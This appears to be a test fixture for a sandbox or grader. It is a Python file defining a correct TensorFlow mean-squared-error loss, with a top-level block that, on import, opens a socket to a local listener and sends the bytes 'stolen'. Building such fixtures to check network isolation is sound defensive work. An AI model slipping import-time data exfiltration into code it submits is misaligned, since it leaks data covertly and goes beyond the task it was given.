"""A correct loss that also tries to send data to a local server (the test's listener)."""
import socket

import tensorflow as tf

try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
        s.sendall(b"stolen")
    print("connected")
except OSError as e:
    print("no network:", e)


def loss(predicted_y, target_y):
    p = tf.reshape(tf.cast(tf.convert_to_tensor(predicted_y), tf.float32), [-1])
    t = tf.reshape(tf.cast(tf.convert_to_tensor(target_y), tf.float32), [-1])
    return tf.reduce_mean(tf.square(p - t))
